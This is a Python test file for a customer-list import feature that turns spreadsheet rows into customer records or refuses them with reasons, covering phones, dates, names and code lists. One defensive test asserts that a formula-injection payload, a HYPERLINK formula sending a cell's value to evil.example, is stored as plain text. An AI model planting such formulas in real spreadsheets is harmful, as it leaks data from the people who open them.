"""Rows turned into customers, or refused with a reason."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.customers.numbers import PartialDate
from app.exchange.assembly import is_company_name, joined_name
from app.exchange.cells import Cell, RawRow
from app.exchange.checking import CheckRules, RowChecker
from app.exchange.choices import Choices, choice_words
from app.exchange.fields import Field
from app.exchange.headers import find_header
from app.exchange.mapping import guess
from app.exchange.preview import preview
from app.exchange.records import CheckedRow, ListedCustomer, ListedEntry, RowState
from db.models.customers import BirthCalendar
from tests.builders import lists

CHOICES = Choices(
    by_field={
        Field.CUSTOMER_CLASS: choice_words((("key", "重点客户", "Key"), ("general", "一般客户", "General"))),
        Field.SOURCE: choice_words((("walk-in", "上门", "Walk-in"), ("referral", "转介绍", "Referral"))),
        Field.INTENT_LEVEL: choice_words(
            (("H", "H 7天内", "H within 7 days"), ("A", "A 1个月内", "A within 1 month"))
        ),
        Field.RECEPTION_LEVEL: choice_words(
            (("vip", "贵宾 VIP", "VIP"), ("svip", "至尊 SVIP", "Premium VIP"))
        ),
    }
)
RULES = CheckRules(today=dt.date(2026, 11, 23), choices=CHOICES, area_code="028")


def checked(titles: str, *rows: tuple[Cell, ...], rules: CheckRules = RULES) -> list[CheckedRow]:
    raw = [RawRow(n, cells) for n, cells in enumerate((tuple(titles.split()), *rows), start=1)]
    return list(RowChecker(guess(find_header(raw), raw), rules).check_all(raw))


def one(titles: str, *cells: Cell, rules: CheckRules = RULES) -> CheckedRow:
    (row,) = checked(titles, cells, rules=rules)
    return row


def customer(titles: str, *cells: Cell) -> ListedCustomer:
    row = one(titles, *cells)
    assert row.customer is not None, row.flaws
    return row.customer


def codes(row: CheckedRow) -> list[str]:
    return [flaw.code for flaw in row.flaws]


def test_a_plain_row_is_ready() -> None:
    row = one(
        "姓名 手机 性别 生日 地址",
        "张　三",
        "１３８ ００１３ ８０００",
        "男",
        32937.0,
        "四川省成都市武侯区人民南路1号",
    )
    assert (row.state, row.number) == (RowState.READY, 2)
    found = row.customer
    assert found is not None
    assert (found.kind, found.name, found.phones[0].number) == ("person", "张三", "13800138000")
    assert found.birth == PartialDate(calendar=BirthCalendar.SOLAR, year=1990, month=3, day=5)
    assert found.fields == {"gender": "male", "region_code": "510107", "address": "人民南路1号"}


def test_phones_that_became_numbers_are_restored_or_refused() -> None:
    rows = checked(
        "姓名 手机",
        ("张三", 13800138000.0),
        ("李四", "1.3800138E+10"),
        ("王五", "1.38E+10"),
        ("赵六", 2885551234.0),
        ("钱七", 1.10105194912310022e17),
        ("孙八", 138001.5),
    )
    assert [row.customer and row.customer.phones[0].number for row in rows] == [
        "13800138000", "13800138000", None, "02885551234", None, None,
    ]  # fmt: skip
    assert [codes(row) for row in rows[2:]] == [
        ["list-digits-lost"],
        [],
        ["list-digits-lost"],
        ["phone-lossy"],
    ]


def test_an_eighteen_digit_number_is_refused_never_repaired() -> None:
    row = one("单位名称 统一社会信用代码", "成都大有商贸有限公司", 911100001000001000.0)
    assert (row.state, codes(row)) == (RowState.REJECTED, ["list-digits-lost"])


def test_several_phones_in_cells_and_columns_are_all_kept_once() -> None:
    found = customer("姓名 手机 电话 家庭电话", "张三", "13800138000/13900139000", "13800138000", "85551234")
    assert [phone.number for phone in found.phones] == ["13800138000", "13900139000", "02885551234"]


def test_a_bad_phone_refuses_the_row_with_every_reason() -> None:
    row = one("姓名 手机 车牌", "张三", "1380013800", "川A1234")
    assert row.state is RowState.REJECTED
    assert [(flaw.column, flaw.code) for flaw in row.flaws] == [
        ("手机", "phone-too-short"),
        ("车牌", "plate-length"),
    ]


def test_what_cannot_be_kept_in_its_field_stays_in_the_note() -> None:
    row = one(
        "姓名 手机 生日 来源 性别 备注", "张三", "13800138000", "1990-13-40", "朋友圈", "外星人", "老客户"
    )
    assert row.state is RowState.WARNED
    assert sorted(codes(row)) == ["date-impossible", "list-choice-unknown", "list-gender-unknown"]
    assert row.customer is not None
    assert row.customer.fields == {"note": "老客户\n生日：1990-13-40\n来源：朋友圈\n性别：外星人"}


@pytest.mark.parametrize(
    ("title", "word", "field", "code"),
    [
        ("客户分类", "重点", "class_code", "key"),
        ("客户分类", "一般客户", "class_code", "general"),
        ("客户分类", "KEY", "class_code", "key"),
        ("来源", "转介绍", "source_code", "referral"),
        ("来源", "walk in", "source_code", "walk-in"),
        ("vip级别", "贵宾", "reception_level", "vip"),
        ("vip级别", "SVIP", "reception_level", "svip"),
    ],
)
def test_words_of_code_lists_are_found(title: str, word: str, field: str, code: str) -> None:
    assert customer(f"姓名 手机 {title}", "张三", "13800138000", word).fields == {field: code}


@pytest.mark.parametrize("word", ["H", "h级", "H 7天内", "Ｈ"])
def test_intent_levels_are_told_by_their_letter(word: str) -> None:
    need = customer("姓名 手机 意向级别", "张三", "13800138000", word).need
    assert need is not None
    assert need.intent_level == "H"


def test_needs_and_vehicles() -> None:
    found = customer(
        "姓名 手机 意向车型 预算 预计购车时间 车牌 车架号 购车日期 行驶里程",
        "张三", "13800138000", "秦PLUS", "10-15万", "2026年12月1日", "川a·12345",
        "lsvau2a34n2183294", 44927.0, "3.2万公里",
    )  # fmt: skip
    assert found.need is not None
    assert found.vehicle is not None
    assert (found.need.product, found.need.budget_min, found.need.budget_max, found.need.expected_on) == (
        "秦PLUS", Decimal(100_000), Decimal(150_000), dt.date(2026, 12, 1),
    )  # fmt: skip
    assert (found.vehicle.plate, found.vehicle.bought_on, found.vehicle.mileage_km) == (
        "川A12345", dt.date(2023, 1, 1), 32_000,
    )  # fmt: skip


def test_notes_keep_their_own_author_and_day() -> None:
    found = customer(
        "登记日期 录入人 姓名 手机 备注", "2024-03-05", "王小二", "张三", "13800138000", "想看七座"
    )
    assert found.entry == ListedEntry(text="想看七座", author="王小二", day=dt.date(2024, 3, 5))
    assert found.fields["note"] == "想看七座"
    assert customer("姓名 手机 备注", "张三", "13800138000", "想看七座").entry is None


def test_a_company_with_its_contact_person() -> None:
    found = customer(
        "公司名称 联系人 职务 联系方式 地址",
        "成都大有商贸有限公司",
        "李经理",
        "采购",
        "13800138000",
        "成都市",
    )
    assert (found.kind, found.name) == ("company", "成都大有商贸有限公司")
    assert found.contact is not None
    assert (found.contact.name, found.contact.post) == ("李经理", "采购")
    assert found.phones[0].number == "13800138000"


def test_a_person_with_an_employer() -> None:
    found = customer("姓名 手机 单位", "张三", "13800138000", "成都大有商贸有限公司")
    assert (found.kind, found.name, found.fields["company_name"]) == (
        "person",
        "张三",
        "成都大有商贸有限公司",
    )


def test_a_company_in_the_name_column() -> None:
    found = customer("客户名称 电话", "成都大有商贸有限公司", "028-85551234")
    assert (found.kind, found.contact) == ("company", None)


@pytest.mark.parametrize(
    ("cells", "code"),
    [
        (("", "13800138000"), "list-name-missing"),
        ((12.0, "13800138000"), "list-name-is-number"),
        (("??", "13800138000"), "list-name-is-number"),
    ],
)
def test_nobody_named_is_refused(cells: tuple[Cell, ...], code: str) -> None:
    row = one("姓名 手机", *cells)
    assert (row.state, codes(row)) == (RowState.REJECTED, [code])


def test_totals_feet_and_repeated_headers_are_no_customers() -> None:
    rows = checked(
        "姓名 手机",
        ("张三", "13800138000"),
        ("姓名", "手机"),
        ("合计", 2.0),
        ("制表人：王五", ""),
        ("", ""),
        ("李四", "13900139000"),
    )
    assert [row.number for row in rows] == [2, 7]


@pytest.mark.parametrize("nothing", ["无", "-", "/", "暂无", "N/A", " — ", "0"])
def test_words_for_nothing_are_nothing(nothing: str) -> None:
    row = one("姓名 手机 微信 邮箱", "张三", "13800138000", nothing, nothing)
    assert row.state is RowState.READY


def test_only_a_name_is_warned_about() -> None:
    row = one("姓名 手机", "张三", "")
    assert (row.state, codes(row)) == (RowState.WARNED, ["list-unreachable"])


def test_day_numbers_of_a_1904_workbook() -> None:
    rules = CheckRules(today=RULES.today, choices=CHOICES, epoch_1904=True)
    row = one("姓名 手机 生日", "张三", "13800138000", 31475.0, rules=rules)
    assert row.customer is not None
    assert row.customer.birth == PartialDate(calendar=BirthCalendar.SOLAR, year=1990, month=3, day=5)


def test_formula_text_is_text() -> None:
    shown = preview(lists.FILES / "07_formula_injection.xlsx")
    rows = list(RowChecker(shown.mapping, RULES).check_all(shown.rows))
    notes = [row.customer.fields["note"] for row in rows if row.customer]
    assert notes[0] == '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
    assert len(notes) == 8


def test_invisible_and_private_use_characters_are_mended() -> None:
    shown = preview(lists.FILES / "06_fullwidth_invisible_pua.xlsx")
    rows = list(RowChecker(shown.mapping, RULES).check_all(shown.rows))
    found = [row.customer for row in rows if row.customer]
    assert [one.name for one in found] == ["张三", "王䶮", "气永", "张三", "𬭎𠮷𮯰"]
    assert {phone.number for one in found[:3] for phone in one.phones} == {"13800138000"}
    assert found[0].vehicle == found[1].vehicle


@pytest.mark.parametrize(
    ("name", "company"),
    [
        ("成都大有商贸有限公司", True), ("四川省人民医院", True), ("武侯区红星汽修厂", True), ("ABC Co., Ltd", True),
        ("张三", False), ("欧阳小红", False), ("部小店", False), ("阿依古丽·买买提", False), ("John Doe", False),
    ],
)  # fmt: skip
def test_company_names_are_told_from_people(name: str, company: bool) -> None:
    assert is_company_name(name) is company


def test_spaces_only_close_up_in_short_chinese_names() -> None:
    assert joined_name("张 三") == "张三"
    assert joined_name("John Doe") == "John Doe"


@given(
    st.lists(
        st.none()
        | st.text(max_size=40)
        | st.floats(allow_nan=False)
        | st.booleans()
        | st.dates()
        | st.times(),
        min_size=9,
        max_size=9,
    )
)
def test_no_cells_make_the_checks_fail(cells: list[Cell]) -> None:
    for row in checked("姓名 手机 生日 地址 预算 车牌 邮箱 来源 备注", tuple(cells)):
        assert (row.customer is None) == (row.state is RowState.REJECTED)
        assert row.customer is not None or any(flaw.fatal for flaw in row.flaws)
